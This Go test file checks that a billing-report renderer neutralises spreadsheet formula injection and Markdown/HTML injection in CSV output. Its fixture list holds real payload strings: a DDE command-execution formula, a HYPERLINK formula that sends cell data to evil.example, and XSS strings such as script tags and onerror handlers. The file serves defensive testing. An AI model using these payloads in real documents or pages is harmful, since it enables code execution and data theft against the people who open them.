package document

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/gpusla/gpusla/sla/billing"
	"github.com/gpusla/gpusla/sla/i18n"
	"github.com/gpusla/gpusla/sla/msg"
	"github.com/gpusla/gpusla/sla/report"
)

// hostileNodes are bill node ids an attacker (or a careless provider
// console) can put in a bill: spreadsheet formulas (issue 27, row 9),
// HTML, links and table breakers for Markdown (row 10).
var hostileNodes = []string{
	"=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", `=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`<img src=x onerror=alert(1)>`, "[click](javascript:alert(1))", "<https://evil.example/a>", "![i](https://evil.example/i.png)",
	"a|b", "<script>alert(1)</script>", "&lt;b&gt;", "`code`", "<!-- c -->", "[ref]", "**bold**",
}

// hostileReport is the claim month with a bill whose unknown nodes carry
// hostileNodes, in both bill forms, and a retroactive record whose
// outside fields (its node, who recorded it, the override's reason) are
// hostile too and whose late_seconds is negative: gpusla's own number.
func hostileReport(t *testing.T) (*report.Report, Extras) {
	t.Helper()
	r := buildClaim(t)
	var node, full strings.Builder
	node.WriteString("node,period,billed_hours,amount,currency\n")
	full.WriteString("node,period,kind,quantity,amount,description\n")
	q := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	for _, h := range hostileNodes {
		node.WriteString(q(h) + ",2026-11,1,10,USD\n")
		full.WriteString(q(h) + ",2026-11,traffic,1,1," + q(h) + "\n")
	}
	lines, err := billing.ParseCSV("bill.csv", strings.NewReader(node.String()))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := billing.Reconcile(r, lines)
	if err != nil {
		t.Fatal(err)
	}
	f := judgeFull(t, r, full.String())
	f.LeftOut = []billing.LeftOut{{Reason: "=cmd credit", Text: msg.Plain("=cmd credit"), Rows: 1, Amount: -3.24, Currency: "USD"}}
	r.Retroactive.Records = append(r.Retroactive.Records, report.Retro{Node: "=1+1", Kind: "maintenance", ID: "@id", Ticket: "-T",
		ClaimedAt: "2026-11-02T00:00:00Z", RecordedAt: "2026-11-01T23:50:00Z", RecordedBy: "api:k1 (=HYPERLINK(\"x\"))",
		LateSeconds: -600, Override: "\t=cmd", Effect: "+effect", EffectText: msg.Plain("+effect")})
	return r, Extras{Bill: rc, Lines: f}
}

// TestSheetCell: OWASP's rule, cell by cell.
func TestSheetCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "@SUM(A1)": "'@SUM(A1)", "+1": "'+1", "-2+3": "'-2+3", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"  =1": "'  =1", "-": "'-", "-1e5": "'-1e5", "--1": "'--1",
		// Numbers as gpusla writes them stay numbers; other text is as is.
		"-12.50": "-12.50", "-600": "-600", "0": "0", "18457.60": "18457.60", "va-01": "va-01", "": "", "2026-11-01T00:00:00Z": "2026-11-01T00:00:00Z",
		"费用": "费用", "a=b": "a=b",
	} {
		if got := sheetCell(in); got != want {
			t.Errorf("sheetCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVIsFormulaSafe (issue 27, row 9): every cell of report.csv — the
// node table, the bill's lines, the rows not judged, the retroactive
// records — is read back; none a spreadsheet would run as a formula,
// every hostile node id is there as text, and gpusla's negative numbers
// (a credit's -3.24, a notice's late_seconds -600) are still numbers.
func TestCSVIsFormulaSafe(t *testing.T) {
	r, x := hostileReport(t)
	for _, lang := range i18n.Langs {
		x.Lang = lang
		var buf bytes.Buffer
		if err := Render(&buf, r, "csv", x); err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(&buf)
		cr.FieldsPerRecord = -1
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		cells := map[string]bool{}
		for i, rec := range recs {
			for _, c := range rec {
				cells[c] = true
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(strings.TrimLeft(c, " ")[0])) && !plainDecimal.MatchString(c) {
					t.Errorf("%s: record %d: cell %q would be run as a formula", lang, i+1, c)
				}
			}
		}
		for _, h := range append([]string{"'=1+1", "'@id", "'-T", "'\t=cmd", `'=cmd credit`}, "-3.24", "-600") {
			if !cells[h] {
				t.Errorf("%s: no cell %q", lang, h)
			}
		}
		for _, h := range hostileNodes {
			if want := sheetCell(h); !cells[want] {
				t.Errorf("%s: bill node %q is not written as %q", lang, h, want)
			}
		}
	}
}
